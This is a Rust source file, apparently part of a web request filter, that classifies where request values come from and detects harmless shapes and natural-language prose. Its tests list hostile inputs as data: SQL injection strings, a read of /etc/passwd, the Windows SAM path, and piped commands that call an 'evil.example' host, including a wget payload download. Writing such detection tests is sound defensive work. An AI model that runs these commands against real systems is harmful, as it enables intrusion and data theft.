//! Where a value came from and what it looks like: the context half of the
//! scoring model.

use crate::byte_set::ByteSet;

/// The part of the request a value was taken from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Source {
    QueryValue,
    /// A query or form parameter *name*.
    ParamName,
    PathSegment,
    Header,
    Cookie,
    JsonValue,
    JsonKey,
    FormValue,
    MultipartValue,
    MultipartFilename,
    XmlText,
    XmlAttribute,
    /// A string literal inside a GraphQL document.
    GraphqlArgument,
    /// A whole body that could not be parsed as its declared type.
    RawBody,
    /// The content of an uploaded file (XML/SVG/HTML only).
    FileContent,
}

impl Source {
    /// Positions that carry structure (names, keys, path segments) rather
    /// than data: attack syntax there is more suspicious.
    pub fn is_structural(self) -> bool {
        matches!(
            self,
            Source::ParamName | Source::JsonKey | Source::PathSegment | Source::MultipartFilename
        )
    }

    /// Sources that arrive through the URL or headers, where newlines and
    /// markup are never ordinary.
    pub fn is_transport(self) -> bool {
        matches!(
            self,
            Source::QueryValue
                | Source::ParamName
                | Source::PathSegment
                | Source::Header
                | Source::Cookie
        )
    }

    /// Sources that are bodies' data, where multi-line text is ordinary.
    pub fn is_body_text(self) -> bool {
        matches!(
            self,
            Source::JsonValue
                | Source::FormValue
                | Source::MultipartValue
                | Source::XmlText
                | Source::GraphqlArgument
                | Source::RawBody
                | Source::FileContent
        )
    }
}

/// Everything the checks know about a value besides its bytes.
#[derive(Debug, Clone)]
pub struct ValueContext<'a> {
    pub source: Source,
    /// Parameter, key or header name (empty when none), lowercase not guaranteed.
    pub name: &'a str,
    text: &'a [u8],
    prose: std::cell::Cell<Option<bool>>,
}

impl<'a> ValueContext<'a> {
    pub fn new(source: Source, name: &'a str, text: &'a [u8]) -> Self {
        ValueContext {
            source,
            name,
            text,
            prose: std::cell::Cell::new(None),
        }
    }

    /// Whether the value reads as natural-language text or a markdown
    /// document ([`is_prose`]); computed on first use, since most checks
    /// return before they need it.
    pub fn prose(&self) -> bool {
        match self.prose.get() {
            Some(p) => p,
            None => {
                let p = is_prose(self.text);
                self.prose.set(Some(p));
                p
            }
        }
    }
}

/// Values whose shape alone clears them: numbers, UUIDs, dates, e-mail
/// addresses, booleans, plain identifiers. No attack in any category fits
/// these shapes.
pub fn is_inert_shape(v: &[u8]) -> bool {
    is_inert_shape_of(v, &ByteSet::of(v))
}

/// Plain tokens: identifiers, numbers, dates, versions, emails, UUIDs,
/// decimal and signed numbers. Spaces are excluded on purpose: SQL keywords
/// separated by spaces need no other character. `0xc0`/`0xc1` only start
/// overlong encodings of ASCII.
const INERT_BYTES: ByteSet = ByteSet::from_bytes(b"_-.@+,:")
    .with_range(b'0', b'9')
    .with_range(b'a', b'z')
    .with_range(b'A', b'Z')
    .with_range(0x80, 0xff)
    .without(&[0xc0, 0xc1]);

/// [`is_inert_shape`] for a value whose byte set is known.
pub fn is_inert_shape_of(v: &[u8], bytes: &ByteSet) -> bool {
    v.is_empty() || bytes.is_subset(&INERT_BYTES) && !has_scheme(v)
}

fn has_scheme(v: &[u8]) -> bool {
    // `javascript:...`-like values are not inert even when made only of word characters.
    memchr::memchr(b':', v).is_some_and(|p| {
        p > 1
            && v.get(..p)
                .is_some_and(|s| s.iter().all(|b| b.is_ascii_alphabetic()))
    })
}

/// Whether a value reads as prose or as a document: at least four words
/// separated by spaces, starting with a word, mostly letters, almost no
/// shell or markup symbols; or a markdown document with code fences.
pub fn is_prose(v: &[u8]) -> bool {
    if memchr::memchr(b'`', v).is_some() && memchr::memmem::find(v, b"```").is_some() {
        return true;
    }
    if v.len() < 16 || memchr::memchr_iter(b' ', v).take(3).count() < 3 {
        return false;
    }
    // A multi-line document (paragraphs, lists, tables) mostly made of letters.
    if v.len() >= 80 && memchr::memchr_iter(b'\n', v).take(2).count() == 2 {
        let letters = v
            .iter()
            .filter(|b| b.is_ascii_alphabetic() || **b >= 0x80)
            .count();
        if letters * 2 >= v.len() {
            return true;
        }
    }
    let first = v
        .iter()
        .find(|b| !b.is_ascii_whitespace())
        .copied()
        .unwrap_or(0);
    if !(first.is_ascii_alphanumeric()
        || first >= 0x80
        || matches!(first, b'"' | b'(' | b'*' | b'#' | b'>' | b'-'))
    {
        return false;
    }
    let mut tokens = 0usize;
    let mut words = 0usize;
    for token in v.split(|b| b.is_ascii_whitespace()) {
        let token = trim_punctuation(token);
        if token.is_empty() {
            continue;
        }
        tokens += 1;
        let letters = token
            .iter()
            .filter(|b| b.is_ascii_alphabetic() || **b >= 0x80)
            .count();
        let plain = token
            .iter()
            .all(|b| b.is_ascii_alphabetic() || *b >= 0x80 || matches!(b, b'\'' | b'-'))
            && token.first() != Some(&b'-');
        if letters >= 2 && plain {
            words += 1;
        }
    }
    let mut letters_or_space = 0usize;
    let mut symbols = 0usize;
    for &b in v {
        if b.is_ascii_alphabetic() || b >= 0x80 || b.is_ascii_whitespace() {
            letters_or_space += 1;
        }
        if matches!(
            b,
            b'|' | b'<' | b'>' | b'$' | b'{' | b'}' | b'[' | b']' | b'\\' | b'=' | b'^'
        ) {
            symbols += 1;
        }
    }
    words >= 4
        && words * 10 >= tokens * 6
        && letters_or_space * 100 >= v.len() * 60
        && symbols * 50 <= v.len().max(50)
}

fn trim_punctuation(token: &[u8]) -> &[u8] {
    let lead = |b: &u8| matches!(b, b'"' | b'\'' | b'(' | b'`' | b'*' | b'_' | b'[');
    let trail = |b: &u8| {
        matches!(
            b,
            b'"' | b'\''
                | b')'
                | b','
                | b'.'
                | b';'
                | b':'
                | b'!'
                | b'?'
                | b'`'
                | b'*'
                | b'_'
                | b']'
        )
    };
    let start = token.iter().position(|b| !lead(b)).unwrap_or(token.len());
    let end = token
        .iter()
        .rposition(|b| !trail(b))
        .map_or(start, |p| p + 1);
    token.get(start..end.max(start)).unwrap_or(&[])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn inert_shapes() {
        for v in [
            "42",
            "-3.14",
            "550e8400-e29b-41d4-a716-446655440000",
            "2024-05-01T10:00:00Z",
            "jane.doe+tag@example.com",
            "true",
            "São_Paulo",
        ] {
            assert!(is_inert_shape(v.as_bytes()), "{v}");
        }
        for v in ["1 or 1=1", "a'b", "javascript:alert", "../x", "<b>"] {
            assert!(!is_inert_shape(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn prose() {
        assert!(is_prose(
            b"I really liked this product, it's great for my kitchen"
        ));
        assert!(!is_prose(b"' or 1=1--"));
        assert!(!is_prose(b"; cat /etc/passwd"));
        assert!(!is_prose(b"C:\\Windows\\System32\\config\\SAM"));
        assert!(!is_prose(b"| nslookup x.evil.example"));
        assert!(!is_prose(b"a; ruby -e 'puts 1'"));
        assert!(!is_prose(
            b"test.txt | wget http://evil.example/x.sh -O /tmp/x.sh"
        ));
        assert!(is_prose(
            b"Works as advertised -- battery lasts ~2 days. Only issue: the app"
        ));
    }
}
